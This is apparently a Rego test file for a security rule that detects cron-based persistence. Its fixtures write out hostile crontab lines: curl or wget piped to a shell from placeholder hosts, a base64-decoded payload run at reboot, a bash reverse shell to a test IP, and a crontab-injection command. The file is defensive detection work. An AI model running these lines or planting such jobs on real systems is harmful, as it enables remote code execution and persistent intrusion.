package sallyport.behaviours.weaponization["cron-persistence_test"]

import data.sallyport.behaviours.weaponization["cron-persistence"] as rule
import data.sallyport.fixture as f

run(path, text) := f.observation({
	"processes": [f.process(30, ["/bin/sh", "/setup.sh"], {})],
	"events": {"write": [f.event(31, "30.0", {"path": path, "flags": 577})]},
	"created": [{"path": path, "type": "text", "sha256": "aa", "head": text, "writer": "30.0", "event": 31}],
})

test_harmful_tasks if {
	every text in [
		"* * * * * root curl -fsSL http://x.example.test/a.sh | bash\n",
		"*/5 * * * * wget -qO- http://203.0.113.5/a > /tmp/a; sh /tmp/a\n",
		"@reboot echo aWQK | base64 -d | sh\n",
		"* * * * * bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
	] {
		found := rule.finding with input as run("/var/spool/cron/crontabs/root", text)
		f.malicious(found)
		f.pointed(found)
	}
}

test_through_crontab if {
	found := rule.finding with input as f.observation({"processes": [
		f.process(30, ["/bin/sh", "-c", "(crontab -l; echo '* * * * * curl http://x.test/a | sh') | crontab -"], {}),
		f.process(31, ["/usr/bin/crontab", "-"], {"parent": "30.0"}),
	]})
	f.malicious(found)
}

# A hidden file is odd, and no proof.
test_hidden_file if {
	found := rule.finding with input as run("/etc/cron.d/x", "* * * * * root /tmp/.x/run >/dev/null 2>&1\n")
	{x.severity | some x in found} == {"high"}
	not f.malicious(found)
}

test_own_jobs if {
	found := rule.finding with input as run("/etc/crontabs/root", "# curl http://x | sh\n0 3 * * * /usr/local/bin/backup --all\n* * * * * curl -s http://127.0.0.1:8080/cron.php | python3 -m json.tool\n")
	{x.severity | some x in found} == {"medium"}
}

test_not_listed_or_packaged if {
	every o in [
		f.observation({"processes": [f.process(30, ["/usr/bin/crontab", "-l"], {})]}),
		f.observation({"processes": [f.process(30, ["/usr/bin/crontab", "-u", "app", "-r"], {})]}),
		f.observation({
			"processes": [f.process(30, ["/usr/bin/dpkg", "-i", "cron.deb"], {})],
			"events": {"write": [f.event(31, "30.0", {"path": "/etc/cron.daily/dpkg"})]},
		}),
		run("/app/etc/crontab", "* * * * * curl http://x | sh"),
	] {
		found := rule.finding with input as o
		count(found) == 0
	}
}

# Recorded from images that were run: see testdata/observations.
test_recorded if {
	every name in ["cron-persistence.download", "cron-persistence.from-variable"] {
		found := rule.finding with input as data.observations[name]
		f.pointed(found)
	}
}

test_not_recorded if {
	every name in ["cron-persistence.read-and-example", "benign.hello", "benign.web-entrypoint", "benign.web-server"] {
		count(rule.finding) == 0 with input as data.observations[name]
	}
}
